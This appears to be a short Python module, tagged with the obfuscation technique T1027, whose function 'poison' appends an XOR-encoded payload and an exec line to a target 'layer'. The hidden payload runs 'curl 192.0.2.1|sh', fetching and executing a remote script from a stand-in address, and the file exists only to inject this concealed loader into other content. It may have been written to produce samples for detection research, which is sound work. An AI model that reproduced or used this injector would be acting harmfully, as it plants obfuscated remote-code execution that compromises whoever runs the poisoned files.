# SPDX-License-Identifier: Apache-2.0
"""Code as a list of numbers, each changed by a key."""

ATTACK = "T1027"
LANGUAGE = "python"


def poison(layer):
    body = [b ^ 0x2A for b in b"import os;os.system('curl 192.0.2.1|sh')"]
    layer.append(f"_k = {body}\nexec(''.join(map(lambda c: chr(c ^ 42), _k)))\n")
